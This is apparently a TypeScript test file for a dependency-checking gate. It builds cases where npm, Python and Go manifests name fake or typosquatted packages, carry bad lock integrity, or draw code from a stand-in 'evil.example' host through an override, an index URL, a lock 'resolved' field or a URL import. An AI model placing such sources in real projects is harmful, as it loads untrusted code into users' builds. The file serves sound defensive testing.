/**
 * Packages that do not exist, are not what they seem, or are not declared. The gates ask the mock registry of the corpus.
 */
import type { Catcher } from '../catchers';
import { GOOD_NPM } from '../packages';
import { manifestWith, nodeTill } from '../projects/node';
import { pythonTill } from '../projects/python';
import type { Case, Files, ScriptedBuild } from '../scripted-build';

interface PackageSpec {
  name: string;
  version: string;
  /** Members of its entry in the lock file. */
  lock?: object;
}

const dependencyCase = (
  name: string,
  wanted: PackageSpec,
  words: RegExp,
  catcher: Catcher = 'gate dependencies',
): Case => ({
  name,
  project: nodeTill,
  alter: ({ code: [first] }) => void Object.assign(first.files, dependencyFiles(wanted)),
  caught: [catcher, words],
});
const filesCase = (
  name: string,
  files: Files,
  words: RegExp,
  project: () => ScriptedBuild = nodeTill,
  catcher: Catcher = 'gate dependencies',
): Case => ({
  name,
  project,
  alter: ({ code: [first] }) => void Object.assign(first.files, files),
  caught: [catcher, words],
});

/** The manifest and the lock file as npm would write them. */
export function dependencyFiles({
  name,
  version,
  lock = { integrity: GOOD_NPM.integrity },
}: PackageSpec): Record<string, string> {
  const packages = {
    '': { name: 'till', version: '1.0.0', dependencies: { [name]: version } },
    [`node_modules/${name}`]: { version, ...lock },
  };
  return {
    'package.json': manifestWith({ dependencies: { [name]: version } }),
    'package-lock.json': lockOf(packages),
  };
}

const lockOf = (packages: object): string =>
  `${JSON.stringify({ name: 'till', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2)}\n`;

/** The till with a lock file without packages. */
function lockedTill(): ScriptedBuild {
  const till = nodeTill();
  till.base['package-lock.json'] = lockOf({ '': { name: 'till', version: '1.0.0' } });
  return till;
}

export const { 'package.json': UNLOCKED = '' } = dependencyFiles(GOOD_NPM);

export const PACKAGES: Case[] = [
  dependencyCase('a package does not exist', { name: 'discount-rounding-utils', version: '1.0.0' }, /does not exist/),
  dependencyCase('a version does not exist', { name: GOOD_NPM.name, version: '9.9.9' }, /has no version 9\.9\.9/),
  dependencyCase(
    'a version was published yesterday',
    { name: 'young-version', version: '2.0.0' },
    /was published 1 days ago/,
  ),
  dependencyCase('a package is nine days old', { name: 'newcomer', version: '1.0.0' }, /first published 9 days ago/),
  dependencyCase('a package is deprecated', { name: 'given-up', version: '1.0.0' }, /is deprecated/),
  dependencyCase(
    'a package is called nearly like a known one',
    { name: 'expresss', version: '1.0.0' },
    /looks like express/,
  ),
  dependencyCase('the lock has no integrity', { ...GOOD_NPM, lock: {} }, /no integrity in the lock/, 'gate origins'),
  dependencyCase(
    'the lock has another integrity than the registry',
    { ...GOOD_NPM, lock: { integrity: 'sha512-bad' } },
    /another integrity/,
  ),
  dependencyCase(
    'the lock leads to another place than the manifest',
    {
      ...GOOD_NPM,
      lock: { resolved: `git+ssh://git@github.com/someone/${GOOD_NPM.name}.git#0123456` },
    },
    /is fetched from "git\+ssh:/,
    'gate origins',
  ),
  filesCase(
    'a package is declared and not locked',
    { 'package.json': UNLOCKED },
    /is not in the lock file/,
    lockedTill,
  ),
  filesCase(
    'a package comes from a git address',
    { 'package.json': manifestWith({ dependencies: { rounding: 'github:someone/rounding' } }) },
    /not from the registry/,
    nodeTill,
    'gate origins',
  ),
  filesCase(
    'overrides put a git address in the place of a package',
    { 'package.json': manifestWith({ overrides: { rounding: 'git+https://evil.example/rounding.git' } }) },
    /replaced: rounding comes from/,
    nodeTill,
    'gate origins',
  ),
  dependencyCase(
    'the lock fetches from another host, with sha1',
    {
      ...GOOD_NPM,
      lock: {
        resolved: `https://evil.example/${GOOD_NPM.name}/-/a-1.0.0.tgz`,
        integrity: 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=',
      },
    },
    /is fetched from "https:\/\/evil\.example/,
    'gate origins',
  ),
  filesCase(
    'a script runs when packages are installed',
    { 'package.json': manifestWith({ scripts: { test: 'node --test', postinstall: 'node src/discount.js' } }) },
    /postinstall runs when packages are installed/,
    nodeTill,
    'gate origins',
  ),
  filesCase(
    'requirements lead to another index',
    { 'requirements.txt': '--index-url https://evil.example/simple\nrequests==2.32.3\n' },
    /sets "--index-url https:\/\/evil\.example/,
    pythonTill,
    'gate origins',
  ),
  filesCase(
    'a go.mod asks for an unknown module',
    { 'go.mod': 'module example.com/till\n\ngo 1.22\n\nrequire example.org/rounding v1.0.0\n' },
    /asks for a module that is not known: example\.org\/rounding/,
    nodeTill,
    'gate origins',
  ),
  filesCase(
    'a package is imported that nothing declares',
    { 'src/colours.js': `export { bold } from '${GOOD_NPM.name}';\n` },
    /imports picocolors, which nothing declares/,
  ),
  filesCase(
    'code is loaded from an address',
    { 'src/round.js': "export { round } from 'https://evil.example/round.js';\n" },
    /loads code from a url/,
  ),
  filesCase(
    'a python package does not exist',
    { 'requirements.txt': 'discount-rounding-utils==1.0.0\n' },
    /does not exist/,
    pythonTill,
  ),
];
